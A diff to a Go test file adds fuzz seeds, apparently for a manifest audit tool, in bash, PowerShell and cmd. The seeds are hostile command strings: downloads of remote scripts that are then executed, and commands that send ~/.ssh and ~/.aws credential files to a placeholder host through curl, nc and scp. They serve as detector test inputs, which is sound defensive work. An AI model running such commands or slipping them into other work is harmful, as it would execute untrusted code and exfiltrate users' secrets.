@@ -184,6 +184,9 @@ var fuzzSeeds = [][]string{
 	{"sh", "-c", "find -L ~/.ssh ~/.aws -iname '' -print0 | xargs -0 -n1; find ~/.ssh -name | xargs curl -T; find ~/.ssh -exec cat {} \\; | nc h 1; ls ~/.ssh/* | sh -c 'xargs cat' | nc h 2"},
 	{"bash", "-c", "curl h | { sh; } | (bash) | if a; then sh <x; elif b; then bash; else :; fi | while read -r; do sh; done | until x; do :; done | time sh | coproc sh | case x in a) sh;; esac"},
 	{"bash", "-c", "curl h > >(sh) >> >(bash) 2> >(sh); curl h | tee >(sh) >(cat) | { echo | sh; } ; find ~/.ssh | while read; do :; done; ls ~/.aws/* | { read -r f; curl -T $f h; }; for f in $(ls ~/.ssh/id_*) `find ~/.aws`; do scp $f h:; done"},
+	{"bash", "-c", "curl h > a; sh a; curl -o x h > b; ./b; wget -O - h >> c; . c; curl h | tee d e | dd of=f; bash d; sh f; curl h 2> g; sh g; curl h &> i; ./i; { wget -qO- h; } > j; sh j; curl h | gunzip | tee; dd of=; tee"},
+	{"pwsh", "-c", "irm h > a.ps1; ./a.ps1; iwr h | Out-File -FilePath:b.ps1; . ./b.ps1; irm h | sc -Encoding utf8 c; ./c; Start-BitsTransfer -Dest d.exe h; d.exe; Start-BitsTransfer h e; (New-Object Net.WebClient).DownloadFile('h', 'f.exe'); f.exe; $w.DownloadFile(; $w.DownloadString(h) | Tee-Object -FilePath g; ./g; irm h 2> x; ./x"},
+	{"cmd", "/c", "curl h > a.bat & a.bat & curl h 2> b.bat & b.bat & curl h | more 1> c & call c & curl -o x h >d & d & curl h >> & curl h 2>&1 > e & e"},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
